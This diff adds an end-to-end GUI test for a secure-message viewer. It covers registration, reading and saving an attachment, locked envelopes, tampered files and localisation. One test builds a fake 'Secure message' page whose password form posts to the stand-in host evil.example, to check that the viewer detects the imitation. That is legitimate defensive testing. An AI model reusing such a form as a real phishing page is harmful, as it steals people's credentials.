@@ -1,0 +1,188 @@
+# SPDX-FileCopyrightText: The securedoc authors
+# SPDX-License-Identifier: Apache-2.0
+"""The recipient's way through the real window: from the mail's attachment to the saved file, with the real service,
+keyring and accessibility bus. Takes the five pictures of docs/images; --update-images puts them there."""
+
+import base64
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+import tempfile
+import unittest
+import urllib.request
+from email import message_from_bytes, policy
+from pathlib import Path
+
+TREE = Path(__file__).resolve().parents[2]
+sys.path[:0] = [str(TREE / "tests" / "support"), str(TREE / "resources" / "sample"), str(TREE / "tests" / "e2e")]
+
+from desktop import Desktop, Viewer, run_inside  # noqa: E402
+from message import RECIPIENT, SENDER, sample_message  # noqa: E402
+from service_fixture import Service, program, wait_until  # noqa: E402
+
+PASSWORD = "Herbst-Laub-Fenster-42"
+PDF = "Behandlungsplan José Álvarez.pdf"
+IMAGES = Path(os.environ.get("SECUREDOC_IMAGES", tempfile.gettempdir()))
+BUTTON = "push button"
+INTERACTIVE = {"push button", "check box", "text", "password text", "combo box", "link", "list item"}
+
+
+def post(link):
+    """What the button on the page behind a mailed link does."""
+    with urllib.request.urlopen(urllib.request.Request(link, data=b"", method="POST"), timeout=30) as answer:
+        return answer.status
+
+
+class ViewerTest(unittest.TestCase):
+    def setUp(self):
+        holder = tempfile.TemporaryDirectory(prefix="securedoc-viewer-test-")
+        self.addCleanup(holder.cleanup)
+        self.folder = Path(holder.name)
+        self.service = Service(self.folder)
+        self.service.start()
+        self.addCleanup(self.service.stop)
+
+    def seal(self, message=None, recipient=RECIPIENT.addr_spec):
+        message = message or sample_message()
+        mail = self.service.seal(message.as_bytes(), SENDER.addr_spec, [recipient], what="mail")
+        attachment = next(message_from_bytes(mail, policy=policy.default).iter_attachments())
+        path = self.folder / attachment.get_filename()
+        path.write_bytes(attachment.get_payload(decode=True))
+        return path
+
+    @staticmethod
+    def envelope_id(path):
+        claims = re.search(rb'id="securedoc-header">\s*[A-Za-z0-9_-]+\.([A-Za-z0-9_-]+)\.', path.read_bytes()).group(1)
+        return json.loads(base64.urlsafe_b64decode(claims + b"=="))["jti"]
+
+    def assert_named(self, viewer):
+        """Everything a person can use says what it is."""
+        nameless = [role for role, name, node in viewer.nodes()
+                    if role in INTERACTIVE and not name and not node.get_description()
+                    and (node.get_parent() is None or node.get_parent().get_role_name() != "combo box")]
+        self.assertEqual(nameless, [], viewer.text())
+
+    def register(self, viewer):
+        viewer.press("^Accept and continue", BUTTON)
+        viewer.wait_for("Verified: sealed by Klinik Grünewald")
+        viewer.wait_for("^Create account", BUTTON)
+        self.assertEqual(viewer.focused()[1], "Create account")
+        self.assert_named(viewer)
+        viewer.screenshot(IMAGES / "front.png")
+        viewer.press("^Create account", BUTTON)
+        viewer.wait_for("Create your account")
+        viewer.enter("^Your name$", RECIPIENT.display_name, "text")
+        viewer.enter("^Password$", PASSWORD, "password text")
+        viewer.enter("^Password again$", PASSWORD, "password text")
+        viewer.press("^Remember me", "check box")
+        viewer.wait_enabled("^Create account", BUTTON)
+        self.assert_named(viewer)
+        viewer.screenshot(IMAGES / "register.png")
+        viewer.press("^Create account", BUTTON)
+        viewer.wait_for("Look into your mailbox")
+        viewer.screenshot(IMAGES / "waiting.png")
+        mail = self.service.wait_for_mail(RECIPIENT.addr_spec)
+        self.assertEqual(post(self.service.link_in(mail)), 200)
+
+    def wait_for_message(self, viewer):
+        viewer.wait_for("Your results and the plan until March")
+        viewer.wait_for(re.escape(PDF))
+        viewer.wait_enabled("^Save…", BUTTON)  # the end is verified
+
+    def save_attachment(self, viewer):
+        target = self.folder / "saved.pdf"
+        viewer.press("^Save…", BUTTON)
+        viewer.wait_for("Save attachment", "dialog")
+        viewer.enter("File name", str(target), "text")
+        viewer.press("^Save$", BUTTON)
+        wait_until(target.exists, "the saved attachment")
+        self.assertEqual(target.read_bytes(), (TREE / "resources" / "sample" / "plan.pdf").read_bytes())
+        viewer.wait_for("Saved as")
+
+    def test_register_read_save_and_come_back(self):
+        envelope = self.seal()
+        with Viewer(envelope) as viewer:
+            viewer.wait_for("Not verified: 127.0.0.1")  # a stranger's service is not asked before it is accepted
+            self.assertIsNone(viewer.find("", "password text"))
+            self.register(viewer)
+            self.wait_for_message(viewer)
+            wait_until(lambda: viewer.find("^Loading", "label") is None, "the body")
+            self.assert_named(viewer)
+            self.wait_until_painted(viewer)
+            self.save_attachment(viewer)
+        with Viewer(envelope) as viewer:  # remembered: nothing is asked
+            self.wait_for_message(viewer)
+
+        lock = [program("securedoc-service"), "admin", "envelopes", "lock", self.envelope_id(envelope), "--reason",
+                "Sent to the wrong person; please delete it", "--data", str(self.service.data)]
+        subprocess.run(lock, check=True, stdout=subprocess.DEVNULL)
+        with Viewer(envelope) as viewer:
+            viewer.wait_for("The sender has locked this message.*wrong person")
+            viewer.wait_for("^Try again", BUTTON)
+            self.assert_named(viewer)
+            viewer.screenshot(IMAGES / "refusal.png")
+
+    def wait_until_painted(self, viewer):
+        """The HTML body is there when the picture has more than a few colours of paper and text."""
+        picture = IMAGES / "message.png"
+
+        def painted():
+            viewer.screenshot(picture)
+            middle = subprocess.run(["convert", str(picture), "-gravity", "center", "-crop", "60%x30%+0+0", "-format",
+                                     "%k", "info:"], stdout=subprocess.PIPE, text=True)
+            return int(middle.stdout or 0) > 16
+
+        wait_until(painted, "the body's picture")
+
+    def test_altered_and_fake_files_get_no_password_field(self):
+        envelope = self.seal()
+        with Viewer(envelope) as viewer:
+            viewer.press("^Accept and continue", BUTTON)
+            viewer.wait_for("^Create account", BUTTON)
+        content = envelope.read_bytes()
+        header = re.search(rb'id="securedoc-header">\s*([A-Za-z0-9_-]+)\.([A-Za-z0-9_-]+)\.', content)
+        signature = header.end()
+        altered = self.folder / "altered.html"
+        flipped = b"A" if content[signature:signature + 1] != b"A" else b"B"
+        altered.write_bytes(content[:signature] + flipped + content[signature + 1:])
+        with Viewer(altered) as viewer:
+            viewer.wait_for("^Altered: ")
+            viewer.wait_for("Open another file", BUTTON)
+            self.assertIsNone(viewer.find("", "password text"))
+        fake = self.folder / "securedoc_20131210T153959.html"
+        fake.write_text("<html><title>Secure message</title><form action='http://evil.example/x' method=post>"
+                        "<input type=email><input type=password name=p><input type=submit></form></html>")
+        with Viewer(fake) as viewer:
+            viewer.wait_for("only imitates a secure message")
+            viewer.wait_for("evil.example")
+            self.assertIsNone(viewer.find("", "password text"))
+
+    def test_several_files_and_none(self):
+        one, two = self.seal(), self.folder / "second.html"
+        shutil.copy(one, two)
+        with Viewer(one, two) as viewer:
+            wait_until(lambda: sum(role == "frame" for role, _, _ in viewer.nodes()) == 2, "two windows")
+        with Viewer() as viewer:
+            viewer.wait_for("Read a secure message")
+            self.assertEqual(viewer.focused()[1], "Open a secure message…")
+
+    def test_spanish(self):
+        with Viewer(self.seal(), LC_ALL="es_ES.UTF-8", LANGUAGE="es") as viewer:
+            viewer.wait_for("Sin verificar: ")
+            viewer.press("^Aceptar y continuar", BUTTON)
+            viewer.press("^Crear cuenta", BUTTON)
+            viewer.wait_for("^Cree su cuenta")
+            self.assertNotIn("account", viewer.text())
+
+
+if __name__ == "__main__":
+    if "--update-images" in sys.argv:
+        os.environ["SECUREDOC_IMAGES"] = str(TREE / "docs" / "images")
+    run_inside(__file__)
+    IMAGES.mkdir(parents=True, exist_ok=True)
+    arguments = [argument for argument in sys.argv if argument != "--update-images"]
+    with Desktop():
+        unittest.main(argv=arguments, verbosity=2)
